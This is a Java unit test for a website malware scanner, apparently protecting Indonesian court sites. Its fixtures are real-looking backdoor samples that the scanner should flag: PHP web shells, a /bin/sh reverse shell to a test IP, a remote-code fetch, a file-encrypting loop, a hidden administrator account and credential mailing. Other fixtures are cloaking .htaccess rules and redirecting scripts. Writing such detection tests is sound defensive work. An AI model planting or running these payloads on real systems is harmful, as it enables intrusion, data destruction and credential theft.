package id.jagasitus.watch;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Programs, configurations and lists: what one of each kind does, and what only looks like it. */
final class PlantedFilesTest {

  private static final LocalDate TODAY = LocalDate.of(2026, 11, 22);
  private static final Hosts COURT = new Hosts("pn-contoh.go.id", Set.of());

  private static final List<String> DOORS =
      List.of(
          "<?=`$_GET[0]`?>",
          "<?php $f=$_GET['f']; $a=$_GET['a']; $f($a) ?>",
          "<?php array_udiff_assoc(array($_REQUEST['p']), array(1), \"assert\");",
          "<?php $a=('!'^'@').'ssert'; $b='_'.'POST'; $c=$$b; $a($c['x']);",
          "<?php @include(base64_decode('L3RtcC94LmljbyI='));",
          "<?php include 'wp-content/uploads/2024/logo.png';",
          "<?php $ext=pathinfo($_FILES['b']['name'],4); if($ext!='x') move_uploaded_file($_FILES['b']['tmp_name'], getcwd().'/'.$_FILES['b']['name']);",
          "<?php system('chattr -i .htaccess'); @unlink('.htaccess');",
          "<?php file_put_contents('index.php', file_get_contents('https://kue.example.org/a.txt'));",
          "<?php if($_POST['src']) file_put_contents($_POST['fn'],$_POST['src']);",
          "<?php foreach(glob('*') as $f){file_put_contents($f.'.x',openssl_encrypt(file_get_contents($f),'aes-256-cbc',$k));unlink($f);}",
          "<?php $user='wpsupport'; $pass='a1b2c3d4'; $id=wp_create_user($user,$pass,'a@b.co'); $u=new WP_User($id); $u->set_role('administrator');",
          "<?php mail('x@yandex.com','log',$_POST['username'].'|'.$_POST['passwd']);",
          "<?php $r=new ReflectionFunction($_GET['f']); echo $r->invoke($_GET['a']);",
          "<?php $h=apache_request_headers(); $t=tempnam('/tmp','x'); file_put_contents($t,$h['X']); include $t;",
          "<?php $c=fsockopen('192.0.2.1',4444); proc_open('/bin/sh',[$c,$c,$c],$p);",
          "#!/usr/bin/env python3\nimport cgi,os\nprint(os.popen(cgi.FieldStorage().getvalue('c')).read())",
          "<?php include('phar://gambar/a.jpg/x');",
          "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
          "<?php $p='pass'.$x; $p($_SERVER['HTTP_X_SANDI']);",
          "<?php $a='_'.$b; ${$a}[0](${$a}[1]);",
          "<?php $l=file('list.txt',FILE_IGNORE_NEW_LINES);if(in_array($_GET['go'],$l)){$B=$_GET['go'];} ?><h1><?=$B?></h1>");

  private static final List<String> WORK =
      List.of(
          "<?php $ext=pathinfo($_FILES['b']['name'],PATHINFO_EXTENSION); if(in_array($ext,['pdf'])){ move_uploaded_file($_FILES['b']['tmp_name'],'u/'.uniqid().'.pdf'); }",
          "<?php $rules=['method'=>'patch','anonymous'=>true]; class ArticleRequest extends FormRequest { }",
          "<?php return ['title'=>'ファイルマネージャー','upload'=>'アップロードする','delete'=>'削除しますか、本当に削除しますか'];",
          "<?php error_reporting(0); $p=md5($_POST['password']); $q=mysqli_query($db,\"select * from users where p='$p'\");",
          "<?php $id=$_GET['id']; $q=$db->query('select * from berita'); ?><a class='navbar-brand' href='/'>x</a><ul class='list'></ul><b class='brand-text'>",
          "<?php $x=json_decode(file_get_contents(\"http://$host/jadwal\"));",
          "<?php class TrustHost { function handle($request, $next) { if ($_SERVER['HTTP_HOST'] !== 'a') { abort(404); } return $next($request); } }",
          "<?php $qr=base64_encode(file_get_contents('https://qr.example.org/?t='.$t));",
          "<?php $m=@popen($sendmail, 'w'); fputs($m, $isi); pclose($m);",
          "<?php $ids=array_map('intval',$_POST['ids']); $this->simpan($_POST['nama']);");

  private static final List<String> RULES_AGAINST =
      List.of(
          "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\nRewriteRule ^(.*)$ /x/index.php [L]\n",
          "RewriteCond %{HTTP_USER_AGENT} (ahrefsbot) [NC]\nRewriteRule .* - [F]\nRewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule .* /lp.html [L]\n",
          "ErrorDocument 404 https://kue.example.org/\n",
          "Header add Link \"<https://rajakue88.example/>; rel=canonical\"\n",
          "Redirect 301 /berita https://rajakue88.example/daftar\n",
          "RewriteRule ^$ https://kue.example.org [R=302,L]\n",
          "<FilesMatch \"^(about.php|radio.php)$\">\nOrder allow,deny\nAllow from all\n</FilesMatch>\n");

  private static final List<String> RULES_FOR =
      List.of(
          "RewriteCond %{HTTP_USER_AGENT} (ahrefs|semrush|mj12bot) [NC]\nRewriteRule .* - [F,L]\n",
          "<FilesMatch \"\\.(php|phtml)$\">\nOrder allow,deny\nDeny from all\n</FilesMatch>\n",
          "ErrorDocument 404 /404.html\nRedirect 301 /sipp https://sipp.pn-contoh.go.id/\n",
          "<Files admin-ajax.php>\nOrder allow,deny\nAllow from all\n</Files>\n");

  @TempDir Path site;

  private final CleanScanner scanner = new CleanScanner(Programs.EXPECTED);

  @Test
  void scan_backDoors_areCritical() throws IOException {
    for (String door : DOORS) {
      expect(Verdict.CRITICAL, "a.php", door);
    }
  }

  @Test
  void scan_programsOfASite_stayQuiet() throws IOException {
    for (String program : WORK) {
      expect(Verdict.NONE, "a.php", program);
    }
  }

  @Test
  void scan_configurationAgainstVisitors_isCritical() throws IOException {
    for (String rules : RULES_AGAINST) {
      expect(Verdict.CRITICAL, ".htaccess", rules);
    }
  }

  @Test
  void scan_configurationThatRefuses_staysQuiet() throws IOException {
    for (String rules : RULES_FOR) {
      expect(Verdict.NONE, ".htaccess", rules);
    }
  }

  @Test
  void scan_notesMapsAndStyles_areReadToo() throws IOException {
    expect(Verdict.CRITICAL, "x.txt", "Hacked by Kue_Lapis");
    expect(Verdict.CRITICAL, "x.txt", "<center>Hacked by Kue_Lapis</center>");
    expect(Verdict.NONE, "x.txt", "Putusan perkara peretasan: laman diubah menjadi hacked by Kue");
    expect(Verdict.CRITICAL, "a.css", "p:after{content:'slot gacor maxwin';font-size:0}");
    expect(Verdict.NONE, "a.css", ".slot{grid-area:a}p:after{content:'\\f101'}");
    expect(Verdict.CRITICAL, "manifest.json", "{\"start_url\":\"https://kue.example.org/\"}");
    expect(Verdict.NONE, "manifest.json", "{\"start_url\":\"https://pn-contoh.go.id/\"}");
    expect(Verdict.CRITICAL, "sitemap.xml", "<loc>https://rajakue88.example/sitemap.xml</loc>");
    expect(Verdict.CRITICAL, "robots.txt", "Sitemap: https://pn-contoh.go.id/slot-gacor.xml\n");
  }

  @Test
  void scan_scriptsThatTurnOrCover_areCritical() throws IOException {
    for (String script :
        List.of(
            "document.querySelectorAll('a').forEach(a=>{a.href='https://kue.example.org/'})",
            "document.body.innerHTML='<iframe src=https://kue.example.org style=position:fixed>'",
            "x.src='//'+['s','kuelapis','example'].join('.')+'/j.js'",
            "e.respondWith(Response.redirect('https://kue.example.org/'))")) {
      expect(Verdict.CRITICAL, "sw.js", script);
    }
    String packed = "<script>location.replace(atob(document.body.dataset.u))</script>";
    expect(Verdict.CRITICAL, "a.html", packed);
    expect(Verdict.NONE, "a.js", "document.querySelectorAll('a').forEach(a=>{a.href='/en/'})");
    expect(Verdict.NONE, "a.js", "var versi=['1','2','3'].join('.');");
  }

  @Test
  void scan_mapOfHeadlines_isNoDoorway() throws IOException {
    String told =
        "<urlset><url><loc>https://pn-contoh.go.id/penyuluhan-slot-gacor</loc></url></urlset>";
    var signals = scanned("sitemap.xml", told).signals();
    assertFalse(signals.stream().anyMatch(at -> at.id().equals("gambling-in-sitemap")));
    expect(Verdict.CRITICAL, "sitemap.xml", told.replace("penyuluhan-", "x-"));
  }

  @Test
  void scan_robotsOfAnotherOffice_isARemark() throws IOException {
    expect(Verdict.NONE, "robots.txt", "Sitemap: https://pn-lain.go.id/sitemap.xml\n");
    expect(Verdict.NONE, "robots.txt", "Disallow: /slot-gacor/\n");
    expect(Verdict.CRITICAL, "robots.txt", "Allow: /app/slot-gacor/\n");
    expect(Verdict.CRITICAL, "robots.txt", "Sitemap: https://s.id/peta.xml\n");
    expect(Verdict.CRITICAL, "robots.txt", "Sitemap: https://pn-lain.go.id/slot-gacor/s.xml\n");
  }

  @Test
  void guarded_whenJudgingBreaks_tellsThatItWasNotJudged() {
    for (Throwable breaks : List.of(new StackOverflowError(), new IllegalStateException("x"))) {
      var signals = new ArrayList<ScanSignal>();
      var judged = CleanScanner.guarded(subject(), (of, into) -> broken(breaks), signals);
      assertEquals(
          List.of(new ScanSignal("not-judged", 40, breaks.getClass().getSimpleName())), signals);
      assertEquals(Optional.empty(), judged.date());
      assertEquals(Verdict.REVIEW, ScanResult.of("a", signals, Optional.empty()).verdict());
    }
  }

  @Test
  void guarded_whenJudgingBreaksLate_keepsWhatWasSeenBefore() {
    var signals = new ArrayList<ScanSignal>();
    var seen = new ScanSignal("seen-before", 60, "");
    CleanScanner.guarded(
        subject(),
        (of, into) -> {
          into.add(seen);
          return broken(new StackOverflowError());
        },
        signals);
    assertEquals(seen, signals.getFirst());
    assertEquals(2, signals.size());
  }

  private static CleanScanner.Subject subject() {
    return new CleanScanner.Subject("<p>", "/a.html", "/a.html", COURT, TODAY);
  }

  private static CleanScanner.Judged broken(Throwable breaks) {
    if (breaks instanceof Error error) {
      throw error;
    }
    throw (RuntimeException) breaks;
  }

  private void expect(Verdict verdict, String name, String text) throws IOException {
    ScanResult result = scanned(name, text);
    assertEquals(verdict, result.verdict(), () -> text + result);
  }

  private ScanResult scanned(String name, String text) throws IOException {
    Path file = Files.writeString(site.resolve(name), text);
    return scanner.scanFile(file, "/" + name, COURT, TODAY);
  }
}
